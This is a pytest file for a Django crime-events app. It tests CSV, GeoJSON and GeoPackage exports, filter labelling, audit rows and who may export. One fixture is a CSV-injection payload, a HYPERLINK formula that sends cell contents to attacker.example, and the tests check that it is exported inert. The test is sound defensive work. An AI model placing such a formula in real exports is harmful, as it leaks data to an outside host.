"""The events list's exports (CSV, GeoJSON, GeoPackage) through HTTP: the filtered events with
the filters written beside them, formula cells inert in the CSV, who may export, and the audit
rows each export writes before it sends anything."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from zoneinfo import ZoneInfo

import pyogrio
import pyogrio.raw
import pytest
from django.test import Client
from django.urls import reverse
from tests.conftest import sign_in

from copps.accounts.models import AuditLog
from copps.incidents.models import Area, Event, ImportBatch, OffenseCategory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"x")'
SQUARE = {
    "type": "Polygon",
    "coordinates": [[[-87.7, 41.8], [-87.6, 41.8], [-87.6, 41.9], [-87.7, 41.9], [-87.7, 41.8]]],
}


@pytest.fixture
def events(db):
    """Four events: a burglary in beat 11 (its block a formula), a sensitive assault in beat 11,
    a burglary in beat 12 and a call with no point."""
    batch = ImportBatch.objects.create(
        file_name="t.csv",
        sha256="0" * 64,
        profile="test",
        source="t",
        started_at=datetime(2024, 1, 1, tzinfo=ZoneInfo("UTC")),
    )
    beats = {
        code: Area.objects.create(
            type="beat", code=code, name=code, geometry=SQUARE, min_lon=-87.7, min_lat=41.8, max_lon=-87.6, max_lat=41.9
        )
        for code in ("11", "12")
    }
    burglary = OffenseCategory.objects.get_or_create(
        code="burglary", defaults={"name": "Burglary", "kind": "crime", "group": "property"}
    )[0]
    assault = OffenseCategory.objects.get_or_create(
        code="sex-assault", defaults={"name": "Sexual assault", "kind": "crime", "group": "persons", "sensitive": True}
    )[0]
    tz = ZoneInfo("America/Los_Angeles")  # the site zone in tests

    def event(n, kind, cat, beat, day, block, lon=-87.65, lat=41.85, sensitive=False):
        return Event.objects.create(
            kind=kind,
            source="t",
            source_id=str(n),
            batch=batch,
            category=cat,
            beat=beats.get(beat),
            occurred_from=datetime(2024, 3, day, 12, tzinfo=tz),
            block_address=block,
            offense=f"offence {n}",
            lon=lon,
            lat=lat,
            location="inside" if lon is not None else "",
            sensitive=sensitive,
            raw={},
            row_hash="x",
        )

    return {
        "formula": event(1, "crime", burglary, "11", 5, FORMULA),
        "sensitive": event(2, "crime", assault, "11", 6, "0XX W MAIN ST", sensitive=True),
        "other_beat": event(3, "crime", burglary, "12", 7, "1XX N STATE ST"),
        "call": event(4, "call", None, None, 8, "", lon=None, lat=None),
        "beats": beats,
    }


def content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_events_list_links_each_export_with_its_filters(client_for, events):
    page = client_for("officer").get(reverse("incidents:list"), {"kind": "crime"})
    for name in ("export-csv", "export-geojson", "export-gpkg"):
        assert f'href="{reverse("incidents:" + name)}?kind=crime"'.encode() in page.content


def test_csv_holds_the_filtered_events_with_formulas_inert_and_the_filters_in_name_and_header(client_for, events):
    beat = events["beats"]["11"]
    response = client_for("analyst").get(reverse("incidents:export-csv"), {"area": beat.pk, "kind": "crime"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="events_area-beat-11_kind-crime.csv"' in response["Content-Disposition"]
    assert response["X-Copps-Filters"] == "area=Beat+11&kind=crime"
    rows = list(csv.DictReader(io.StringIO(content(response).decode())))
    assert [r["id"] for r in rows] == [str(events["sensitive"].pk), str(events["formula"].pk)]  # newest first
    by_id = {r["id"]: r for r in rows}
    assert by_id[str(events["formula"].pk)]["block"] == "'" + FORMULA
    assert by_id[str(events["formula"].pk)]["category"] == "burglary"
    assert by_id[str(events["formula"].pk)]["occurred_from"] == "2024-03-05T12:00:00-08:00"
    assert by_id[str(events["sensitive"].pk)]["sensitive"] == "True"
    assert "address" not in rows[0]  # like the list: the block, never the full address


def test_geojson_holds_the_filters_and_a_null_geometry_for_an_event_without_a_point(client_for, events):
    response = client_for("officer").get(reverse("incidents:export-geojson"), {"date_from": "2024-03-07"})
    assert response.status_code == 200 and response["Content-Type"] == "application/geo+json"
    data = json.loads(content(response))
    assert data["type"] == "FeatureCollection" and data["filters"] == {"date_from": "2024-03-07"}
    assert data["count"] == 2
    got = {f["properties"]["id"]: f["geometry"] for f in data["features"]}
    assert got == {
        events["call"].pk: None,
        events["other_beat"].pk: {"type": "Point", "coordinates": [-87.65, 41.85]},
    }


def test_geopackage_opens_with_pyogrio_with_points_in_wgs84_and_the_filters_beside_them(client_for, events, tmp_path):
    response = client_for("supervisor").get(reverse("incidents:export-gpkg"), {"kind": "crime"})
    assert response.status_code == 200
    assert 'filename="events_kind-crime.gpkg"' in response["Content-Disposition"]
    path = tmp_path / "e.gpkg"
    path.write_bytes(content(response))
    assert {name for name, _ in pyogrio.list_layers(path)} == {"events", "filters"}
    info = pyogrio.read_info(path, layer="events")
    assert info["crs"] == "EPSG:4326" and info["features"] == 3 and info["geometry_type"] == "Point"
    assert json.loads(info["layer_metadata"]["copps_filters"]) == {"kind": "crime"}
    assert "kind: crime" in info["layer_metadata"]["DESCRIPTION"]
    _, _, geometry, fields = pyogrio.raw.read(path, layer="events")
    names = list(info["fields"])
    ids = fields[names.index("id")].tolist()
    assert sorted(ids) == sorted(events[k].pk for k in ("formula", "sensitive", "other_beat"))
    assert fields[names.index("sensitive")].tolist()[ids.index(events["sensitive"].pk)]
    assert all(g is not None for g in geometry)
    _, _, _, table = pyogrio.raw.read(path, layer="filters")
    assert [list(c) for c in table] == [["kind"], ["crime"]]


def test_an_empty_selection_still_makes_a_geopackage(client_for, events, tmp_path):
    response = client_for("officer").get(reverse("incidents:export-gpkg"), {"date_from": "2030-01-01"})
    path = tmp_path / "e.gpkg"
    path.write_bytes(content(response))
    assert pyogrio.read_info(path, layer="events")["features"] == 0


def test_each_export_is_audited_with_its_filters_and_row_count_and_each_sensitive_event(client_for, events):
    beat = events["beats"]["11"]
    response = client_for("officer").get(reverse("incidents:export-geojson"), {"area": beat.pk})
    content(response)
    summary = AuditLog.objects.get(action="event.export", object_id="")
    assert summary.username == "officer"
    assert summary.params == {"format": "geojson", "filters": {"area": "Beat 11"}, "rows": 2, "sensitive": 1}
    per_event = AuditLog.objects.filter(action="event.export").exclude(object_id="")
    assert list(per_event.values_list("object_id", flat=True)) == [str(events["sensitive"].pk)]


@pytest.mark.parametrize("name", ["export-csv", "export-geojson", "export-gpkg"])
def test_no_export_when_the_audit_cannot_be_written(cast, events, audit_down, name):
    response = sign_in(Client(raise_request_exception=False), cast["officer"]).get(reverse("incidents:" + name))
    assert response.status_code == 500
    assert b"HYPERLINK" not in content(response) and b"MAIN" not in content(response)


def test_invalid_filters_export_nothing(client_for, events):
    response = client_for("officer").get(
        reverse("incidents:export-csv"), {"date_from": "2024-03-09", "date_to": "2024-03-01"}
    )
    assert response.status_code == 400 and b"must be on or before" in response.content
    assert not AuditLog.objects.filter(action="event.export").exists()


@pytest.mark.parametrize("name", ["export-csv", "export-geojson", "export-gpkg"])
def test_residents_and_auditors_are_refused_and_anonymous_sent_to_sign_in(client, client_for, events, name):
    url = reverse("incidents:" + name)
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and anonymous["Location"].startswith(reverse("login"))
    for role in ("resident", "auditor"):
        response = client_for(role).get(url)
        assert response.status_code == 403 and b"HYPERLINK" not in response.content
    assert not AuditLog.objects.filter(action="event.export").exists()


def test_a_geopackage_written_in_several_chunks_holds_every_event(client_for, events, tmp_path, monkeypatch):
    from copps.incidents import exports

    monkeypatch.setattr(exports, "CHUNK", 2)  # four events: two writes, the second appended
    response = client_for("officer").get(reverse("incidents:export-gpkg"))
    path = tmp_path / "e.gpkg"
    path.write_bytes(content(response))
    info = pyogrio.read_info(path, layer="events")
    assert info["features"] == 4 and info["layer_metadata"]["DESCRIPTION"].endswith("none (every event)")
    _, _, geometry, fields = pyogrio.raw.read(path, layer="events")
    names = list(info["fields"])
    no_point = fields[names.index("id")].tolist().index(events["call"].pk)
    assert geometry[no_point] is None and sum(g is None for g in geometry) == 1
